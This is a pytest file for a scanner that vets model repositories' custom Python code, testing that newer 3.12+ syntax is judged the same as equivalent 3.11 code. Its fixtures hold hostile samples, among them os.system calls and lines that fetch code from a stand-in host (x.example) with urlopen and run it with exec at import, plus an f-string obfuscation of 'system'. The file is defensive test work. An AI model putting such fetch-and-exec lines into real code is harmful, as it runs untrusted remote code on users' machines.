"""Python 3.12+ grammar (PEP 695 generics, PEP 701 f-strings) is analysed, not a scan error.

transformers' ``dynamic_module_utils.get_class_from_dynamic_module`` imports the repo's module
on the user's interpreter (3.12+ reads this syntax), so what the module does at import counts.
"""

from __future__ import annotations

import ast
import json
from pathlib import Path

import pytest

from app.core.findings import Severity
from app.core.pipeline import VetOptions, vet
from app.core.report import Report
from app.core.scanners.python_code.modern_syntax import parse_module, readable
from app.core.scanners.remote_code_scanner import RemoteCodeScanner
from app.sources.local import LocalSource

CONFIG = json.dumps({"auto_map": {"AutoModel": "modeling_x.XModel"}})

# Each hostile module beside its 3.11 twin (the same code without the newer grammar, line for
# line): the analysis must say the same of both.
HOSTILE = {
    "generic-module": ('import os\n\ndef run[T: int](value: T) -> T:\n    return value\n\nclass Box[T]:\n'
                       '    pass\n\ntype Alias[T] = list[T]\nos.system("echo pwned")\n',
                       'import os\n\ndef run(value):\n    return value\n\nclass Box:\n'
                       '    pass\n\nAlias = list\nos.system("echo pwned")\n'),
    "nested-fstring": ('import os\n\nbanner = f"{f"{os.system("echo pwned")}"}"\n',
                       'import os\n\nbanner = f\"\"\"{f\'{os.system("echo pwned")}\'}\"\"\"\n'),
    "call-through-generic": ('import os\n\ndef fetch[T](x: T) -> T:\n    return x\n\nfetch(os.system("echo pwned"))\n',
                             'import os\n\ndef fetch(x):\n    return x\n\nfetch(os.system("echo pwned"))\n'),
    "type-param-bound": ('import os\n\nclass Model[T: os.system("echo pwned")]:\n    pass\n',
                         'import os\n\nclass Model(b=os.system("echo pwned")):\n    pass\n'),
    # Code fetched and run at import: critical on its own (remote_code_scanner SEVERITIES).
    "fetched-exec-in-fstring": ('import urllib.request\n\nx = f"{exec(urllib.request.urlopen("http://x.example/p").read())}"\n',
                                "import urllib.request\n\nx = f\"{exec(urllib.request.urlopen('http://x.example/p').read())}\"\n"),
    "fetched-exec-in-generic": ('import urllib.request\n\ndef go[T]() -> None:\n'
                                '    exec(urllib.request.urlopen(f"{"http"}://x.example/p").read())\n\ngo()\n',
                                'import urllib.request\n\ndef go() -> None:\n'
                                '    exec(urllib.request.urlopen(f"{\'http\'}://x.example/p").read())\n\ngo()\n'),
}

BENIGN_MODERN = '''from dataclasses import dataclass

type Shape = tuple[int, ...]

def first[T](items: list[T]) -> T:
    return items[0]

@dataclass
class Cache[K, V]:
    size: int = 0

def describe(cfg: dict[str, str]) -> str:
    return f"{cfg["name"]}: {"\\n".join(cfg)} {cfg.get("kind", "x")!r:>10}"

def report(rows: list[str]) -> str:
    return f"{
        len(rows)  # rows seen
    } rows"
'''


def _vet(tmp_path: Path, module: str) -> Report:
    tmp_path.mkdir(exist_ok=True)
    (tmp_path / "config.json").write_text(CONFIG)
    (tmp_path / "modeling_x.py").write_text(module)
    return vet(LocalSource(tmp_path), [RemoteCodeScanner()], options=VetOptions(workers=1))


def _judged(report: Report) -> set[tuple[str, str, str]]:
    return {(f.rule, f.severity.value, (f.evidence or "").split(": ", 1)[0]) for f in report.findings}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_newer_grammar_is_judged_as_its_311_twin(tmp_path: Path, name: str) -> None:
    module, twin = HOSTILE[name]
    with pytest.raises(SyntaxError):
        ast.parse(module)  # the 3.11 parser cannot read it: this is the case under test
    ast.parse(twin)
    found = _judged(_vet(tmp_path / "new", module))
    assert found == _judged(_vet(tmp_path / "twin", twin))
    assert not [f for f in found if f[0] == "scan-error"]
    line = next(i for i, text in enumerate(module.splitlines(), 1) if "os.system" in text or "exec(" in text)
    assert ("remote-code-dangerous", "critical" if "fetched" in name else "high", f"modeling_x.py:{line}") in found


def test_benign_modern_module_is_no_scan_error(tmp_path: Path) -> None:
    report = _vet(tmp_path, BENIGN_MODERN)
    assert not [f for f in report.findings if f.rule == "scan-error"]
    assert max(f.severity.rank for f in report.findings) <= Severity.LOW.rank, report.findings


def test_rewrite_keeps_every_line_number() -> None:
    rewritten = readable(BENIGN_MODERN)
    assert isinstance(rewritten, str) and rewritten.count("\n") == BENIGN_MODERN.count("\n")
    tree = parse_module(BENIGN_MODERN)
    defs = {n.name: n.lineno for n in ast.walk(tree) if isinstance(n, ast.FunctionDef | ast.ClassDef)}
    assert defs == {"first": 5, "Cache": 9, "describe": 12, "report": 15}


def test_a_readable_module_is_left_as_it_is() -> None:
    source = b"x = f'{1}'\n"
    assert readable(source) is source


def test_what_no_grammar_reads_stays_a_syntax_error() -> None:
    with pytest.raises(SyntaxError):
        parse_module("def broken(:\n")


def test_folded_fstring_still_builds_the_name() -> None:
    # f"{"sy"}{"stem"}" (PEP 701) folds to "system", as the f-string it replaces would.
    tree = parse_module('import os\ngetattr(os, f"{"sy"}{"stem"}")("echo pwned")\n')
    from app.core.scanners.python_code.names import Names

    names = Names(tree)
    call = next(n for n in ast.walk(tree) if isinstance(n, ast.Call) and getattr(n.func, "id", "") == "getattr")
    folded = names.constants.fold(call.args[1])
    assert folded is not None and folded.value == "system"


# libcst's native parser crashes on a few thousand nested brackets and takes minutes on a long
# `+` chain; it runs in a child process, so either is the 3.11 SyntaxError (a scan-error), and
# the vetting process lives on.
def test_a_parser_crash_is_a_syntax_error_not_a_crash() -> None:
    source = 'x = f"{d["a"]}"\ny = ' + "(" * 5000 + "1" + ")" * 5000 + "\n"
    with pytest.raises(SyntaxError):
        parse_module(source)


def test_a_slow_parse_is_cut_off(monkeypatch: pytest.MonkeyPatch) -> None:
    from app.core.scanners.python_code import modern_syntax

    monkeypatch.setattr(modern_syntax, "REWRITE_SECONDS", 2.0)
    source = 'x = f"{d["a"]}"\ny = ' + "+".join(["1"] * 20000) + "\n"
    with pytest.raises(SyntaxError):
        parse_module(source)


def test_python2_is_not_handed_to_the_newer_parser(monkeypatch: pytest.MonkeyPatch) -> None:
    import subprocess

    def never(*args: object, **kwargs: object) -> None:
        raise AssertionError("no child process for source without a newer construct")

    monkeypatch.setattr(subprocess, "run", never)
    with pytest.raises(SyntaxError, match="print"):
        parse_module("print 'hello'\n")
